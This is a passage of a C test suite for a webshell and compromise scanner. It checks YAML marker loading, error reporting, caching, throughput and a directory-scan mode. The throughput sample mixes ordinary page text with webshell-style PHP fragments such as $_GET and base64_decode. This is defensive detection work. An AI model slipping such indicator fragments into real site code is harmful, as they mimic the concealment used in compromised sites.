	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n",
	    "t.yaml:4: marker t.cat: category: \"malware\" is not one of",
	    "t.yaml:5: marker t.cat: severity: expected low, medium, high or critical", NULL);
	expect_load_error("markers:\n"
	    "  - name: no id\n"
	    "    category: webshell\n"
	    "    severity: low\n"
	    "    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"
	    "  - id: Bad Id\n",
	    "t.yaml:2: marker #1: id: required key is missing",
	    "t.yaml:7: marker #2: id: expected lower-case", NULL);
	expect_load_error(ONE("    min_matches: 3\n"
	    "    patterns: ['x', 'y']\n"
	    "    tests: {match: [{path: a, content: xy}], nomatch: [{path: a, content: z}]}\n"),
	    "t.yaml:6: marker t.one: min_matches: 3, but only 2 patterns", NULL);
	expect_load_error(ONE("    requires: ['x']\n"
	    "    near: 10\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"),
	    "t.yaml:7: marker t.one: near: needs two requires", NULL);
	expect_load_error(ONE("    not: ['x']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a}]}\n"),
	    "t.yaml:2: marker t.one: a marker needs patterns, requires or paths", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{content: x}], nomatch: [{path: a, content: y, colour: 1}]}\n"),
	    "t.yaml:7: marker t.one: tests: a case needs path:",
	    "marker t.one: tests.colour: unknown key", NULL);
	expect_load_error(ONE("    patterns: ['x']\n"
	    "    tests: {match: [{path: a, content: 'x http://a.example/', domains: [b.example]}],"
	    " nomatch: [{path: a, content: y}]}\n"),
	    "marker t.one: test case: domain b.example not among", NULL);
	expect_load_error("rules:\n  - id: web.x\n", "t.yaml:1: rules: unknown key", NULL);
	expect_load_error("markers: [\n", "t.yaml:2: yaml:", NULL);
	expect_load_error("", "markers: no markers loaded", NULL);
	expect_load_error(ONE("    family: WSO!\n    paths: 'x'\n"
	    "    tests: {match: [{path: x}], nomatch: [{path: y}]}\n"),
	    "t.yaml:6: marker t.one: family: expected lower-case", NULL);
	expect_load_error(ONE("    paths: 'x'\n    max_size: lots\n    foreign_hosts: 0\n"
	    "    tests: {match: [{path: x}], nomatch: [{path: y}]}\n"),
	    "t.yaml:7: marker t.one: max_size: expected a size",
	    "t.yaml:8: marker t.one: foreign_hosts: expected a whole number", NULL);
}

/* Every problem of a file is reported, not only the first. */
static void
test_load_reports_every_error(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_markers *m;

	(void)state;
	m = load_str("markers:\n"
	    "  - id: a.one\n"
	    "    name: a\n"
	    "    category: webshell\n"
	    "    severity: low\n"
	    "    patterns: ['[z-a]']\n"
	    "    tests: {match: [{path: a, content: x}], nomatch: [{path: a, content: y}]}\n"
	    "  - id: a.two\n"
	    "    name: b\n"
	    "    category: webshell\n"
	    "    severity: low\n"
	    "    patterns: ['(?<=x)y']\n"
	    "    tests: {match: [{path: a, content: xy}], nomatch: [{path: a, content: y}]}\n"
	    "  - id: a.three\n"
	    "    bogus: 1\n", &errs);
	assert_null(m);
	assert_true(errs_have(&errs, "t.yaml:6: marker a.one: pattern does not compile"));
	assert_true(errs_have(&errs, "t.yaml:12: marker a.two: pattern does not compile"));
	assert_true(errs_have(&errs, "t.yaml:15: marker a.three: bogus: unknown key"));
	assert_true(errs_have(&errs, "t.yaml:14: marker a.three: name: required key is missing"));
	ronda_cfg_errors_free(&errs);
}

/* ---------------------------------------------------- files and folders */

static const char *const file_a =
    "markers:\n"
    "  - id: f.a\n"
    "    name: a\n"
    "    category: webshell\n"
    "    severity: low\n"
    "    patterns: ['aaa']\n"
    "    tests: {match: [{path: a, content: aaa}], nomatch: [{path: a, content: b}]}\n";
static const char *const file_b =
    "markers:\n"
    "  - id: f.b\n"
    "    name: b\n"
    "    category: webshell\n"
    "    severity: low\n"
    "    patterns: ['bbb']\n"
    "    tests: {match: [{path: a, content: bbb}], nomatch: [{path: a, content: a}]}\n";

static void
test_load_paths(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	struct ronda_markers *m;
	char dir[512], fa[600], fb[600], other[600], empty[512];
	char *v[2];
	struct ronda_strlist paths = { v, 1 };

	(void)state;
	snprintf(dir, sizeof(dir), "%s/markers", tmpdir);
	assert_int_equal(mkdir(dir, 0755), 0);
	snprintf(fa, sizeof(fa), "%s/10-a.yaml", dir);
	snprintf(fb, sizeof(fb), "%s/20-b.yml", dir);
	snprintf(other, sizeof(other), "%s/notes.txt", dir);
	write_file(fa, file_a, 0644);
	write_file(fb, file_b, 0644);
	write_file(other, "not yaml: [", 0644);

	/* A folder: its *.yaml and *.yml, nothing else. */
	v[0] = dir;
	m = ronda_markers_load(&paths, &errs);
	if (m == NULL)
		errs_print(&errs);
	assert_non_null(m);
	assert_int_equal(ronda_markers_count(m), 2);
	ronda_markers_free(m);

	/* A file. */
	v[0] = fa;
	m = ronda_markers_load(&paths, &errs);
	assert_non_null(m);
	assert_int_equal(ronda_markers_count(m), 1);
	ronda_markers_free(m);

	/* The same marker in two files: the second names the first. */
	v[0] = fa;
	v[1] = dir;
	paths.n = 2;
	m = ronda_markers_load(&paths, &errs);
	assert_null(m);
	assert_true(errs_have(&errs, "10-a.yaml:2: marker f.a: duplicate id (first at"));
	ronda_cfg_errors_free(&errs);
	paths.n = 1;

	/* Missing, empty folder, writable by others. */
	v[0] = "/nonexistent/markers";
	assert_null(ronda_markers_load(&paths, &errs));
	assert_true(errs_have(&errs, "/nonexistent/markers: cannot open"));
	ronda_cfg_errors_free(&errs);
	snprintf(empty, sizeof(empty), "%s/empty", tmpdir);
	assert_int_equal(mkdir(empty, 0755), 0);
	v[0] = empty;
	assert_null(ronda_markers_load(&paths, &errs));
	assert_true(errs_have(&errs, "no marker files"));
	ronda_cfg_errors_free(&errs);
	assert_int_equal(chmod(fa, 0666), 0);
	v[0] = fa;
	assert_null(ronda_markers_load(&paths, &errs));
	assert_true(errs_have(&errs, "writable by others"));
	ronda_cfg_errors_free(&errs);
	assert_int_equal(chmod(fa, 0644), 0);
}

/* ---------------------------------------------------------------- cache */

static int
count_cache_files(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	int n = 0;

	assert_non_null(d);
	while ((de = readdir(d)) != NULL)
		n += strncmp(de->d_name, "markers-", 8) == 0;
	closedir(d);
	return n;
}

static void
test_cache(void **state)
{
	struct ronda_cfg_errors errs = { 0 };
	const char *src = getenv("RONDA_SRC");
	char dir[1024], small[512], p[1024];
	char *v[1] = { dir };
	struct ronda_strlist paths = { v, 1 };
	struct ronda_markers *b;
	struct ronda_marker_result ra, rb;
	double t0, t1;

	(void)state;
	/* The group's load compiled and stored; this one reads the databases back. */
	snprintf(dir, sizeof(dir), "%s/rules/webroot", src ? src : ".");
	assert_int_equal(count_cache_files(cachedir), 1);
	t0 = now_s();
	b = ronda_markers_load_cached(&paths, cachedir, &errs);
	t1 = now_s();
	assert_non_null(b);
	assert_int_equal(count_cache_files(cachedir), 1);
	printf("markers: %zu loaded in %.3f s compiled, %.3f s from the cache\n",
	    ronda_markers_count(b), compile_s, t1 - t0);
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		scan(shipped, attacks[i].path, attacks[i].content, attacks[i].own, &ra);
		scan(b, attacks[i].path, attacks[i].content, attacks[i].own, &rb);
		assert_int_equal(ra.nhits, rb.nhits);
		for (int h = 0; h < ra.nhits; h++) {
			assert_string_equal(ra.hits[h].id, rb.hits[h].id);
			assert_int_equal(ra.hits[h].excerpt_len, rb.hits[h].excerpt_len);
		}
	}
	ronda_markers_free(b);

	/* Another set in the same folder replaces the entry; a damaged one is compiled over. */
	snprintf(small, sizeof(small), "%s/small.yaml", tmpdir);
	write_file(small, file_a, 0644);
	v[0] = small;
	b = ronda_markers_load_cached(&paths, cachedir, &errs);
	assert_non_null(b);
	ronda_markers_free(b);
	assert_int_equal(count_cache_files(cachedir), 1);
	{
		DIR *d = opendir(cachedir);
		struct dirent *de;
		p[0] = '\0';
		while ((de = readdir(d)) != NULL)
			if (strncmp(de->d_name, "markers-", 8) == 0)
				snprintf(p, sizeof(p), "%s/%s", cachedir, de->d_name);
		closedir(d);
	}
	write_file(p, "RONDAMK1garbage", 0600);
	b = ronda_markers_load_cached(&paths, cachedir, &errs);
	assert_non_null(b);
	scan(b, "a", "xx aaa", NULL, &rb);
	assert_int_equal(rb.nhits, 1);
	ronda_markers_free(b);
	/* A folder others may write is not used (and not written). */
	assert_int_equal(chmod(cachedir, 0777), 0);
	unlink(p);
	b = ronda_markers_load_cached(&paths, cachedir, &errs);
	assert_non_null(b);
	ronda_markers_free(b);
	assert_int_equal(count_cache_files(cachedir), 0);
	assert_int_equal(chmod(cachedir, 0700), 0);
	ronda_cfg_errors_free(&errs);
}

/* ----------------------------------------------------------- throughput */

static void
test_scan_throughput(void **state)
{
	size_t n = 4u << 20, off = 0;
	unsigned char *buf = malloc(n);
	struct ronda_marker_result r;
	char err[64];
	double t0, t1;
	int files = 0;
	static const char *const para =
	    "<p>Pemerintah Kota Bontang menggelar rapat koordinasi penanganan stunting bersama "
	    "<a href=\"https://dinkes.bontangkota.go.id/\">Dinas Kesehatan</a>. <?php echo esc_html("
	    "get_the_title()); ?> $_GET['page'] base64_decode( get_option('x') ) display:none</p>\n";

	(void)state;
	assert_non_null(buf);
	while (off + strlen(para) < n) {
		memcpy(buf + off, para, strlen(para));
		off += strlen(para);
	}
	t0 = now_s();
	for (size_t at = 0; at + 65536 <= off; at += 65536, files++)
		assert_true(ronda_markers_scan(shipped, "wp-content/themes/dinas/page.php", buf + at,
		    65536, 65536, "bontangkota.go.id", &r, err, sizeof(err)) >= 0);
	t1 = now_s();
	printf("markers: %d files of 64 KiB in %.3f s: %.0f MB/s\n", files, t1 - t0,
	    files * 65536.0 / 1e6 / (t1 - t0 > 0 ? t1 - t0 : 1e-9));
	free(buf);
}

/* ------------------------------------------------------------- --scan */

static struct ronda_markers *scan_set;
static size_t scan_rootlen;
static unsigned char *scan_buf;
static const char *scan_own;
static long scan_files, scan_hits;

static int
scan_one(const char *p, const struct stat *st, int type, struct FTW *f)
{
	struct ronda_marker_result r;
	char err[256];
	const char *rel = p + scan_rootlen;
	ssize_t n;
	int fd;

	(void)f;
	if (type != FTW_F || !S_ISREG(st->st_mode))
		return 0;
	if ((fd = open(p, O_RDONLY | O_NOFOLLOW | O_CLOEXEC)) == -1)
		return 0;
	n = read(fd, scan_buf, 1 << 20);
	close(fd);
	if (n < 0)
		return 0;
	while (*rel == '/')
		rel++;
	scan_files++;
	if (ronda_markers_scan(scan_set, rel, scan_buf, (size_t)n, (uint64_t)st->st_size,
	    scan_own, &r, err, sizeof(err)) <= 0)
		return 0;
	scan_hits++;
	for (int i = 0; i < r.nhits; i++) {
		printf("%s\t%s\t%s\t", rel, r.hits[i].id, r.hits[i].category);
		for (size_t j = 0; j < r.hits[i].excerpt_len; j++) {
			unsigned char c = (unsigned char)r.hits[i].excerpt[j];
			putchar(c >= 32 && c < 127 ? c : '.');
		}
		for (int d = 0; d < r.ndomains; d++)
			printf("%s%s", d ? "," : "\t", r.domains[d]);
		putchar('\n');
	}
	return 0;
}

static int
scan_tree(const char *root, const char *own, const char *markers)
{
	struct ronda_cfg_errors errs = { 0 };
	char *v[1] = { (char *)markers };
	struct ronda_strlist paths = { v, markers != NULL };

	scan_set = ronda_markers_load(&paths, &errs);
	if (scan_set == NULL) {
		errs_print(&errs);
		ronda_cfg_errors_free(&errs);
		return 2;
	}
	scan_own = own;
	scan_rootlen = strlen(root);
	scan_buf = malloc(1 << 20);
	if (scan_buf == NULL || nftw(root, scan_one, 32, FTW_PHYS) == -1) {
		perror(root);
		return 2;
	}
	fprintf(stderr, "%ld files scanned, %ld with a marker (%zu markers)\n", scan_files,
	    scan_hits, ronda_markers_count(scan_set));
	free(scan_buf);
	ronda_markers_free(scan_set);
	return scan_hits > 0;
}

int
main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_shipped_load),
		cmocka_unit_test(test_shipped_categories),
		cmocka_unit_test(test_shipped_hit_cap_keeps_worst),
		cmocka_unit_test(test_excerpt_centred_and_capped),
		cmocka_unit_test(test_excerpt_long_match),
		cmocka_unit_test(test_domains),
		cmocka_unit_test(test_domains_near_the_match),
		cmocka_unit_test(test_binary_and_nul),
		cmocka_unit_test(test_content_cut),
		cmocka_unit_test(test_semantics),
		cmocka_unit_test(test_load_errors),
		cmocka_unit_test(test_load_reports_every_error),
		cmocka_unit_test(test_load_paths),
		cmocka_unit_test(test_scan_throughput),
		cmocka_unit_test(test_cache),
	};
	char cmd[300];
	int rc;

	if (argc >= 3 && strcmp(argv[1], "--scan") == 0)
		return scan_tree(argv[2], argc >= 4 ? argv[3] : NULL, argc >= 5 ? argv[4] : NULL);
	snprintf(tmpdir, sizeof(tmpdir), "%s/test_marker.XXXXXX",
	    getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (mkdtemp(tmpdir) == NULL)
		return 1;
	rc = cmocka_run_group_tests(tests, load_shipped_group, free_shipped_group);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	if (system(cmd) != 0)
		rc = rc ? rc : 1;
	return rc;
}
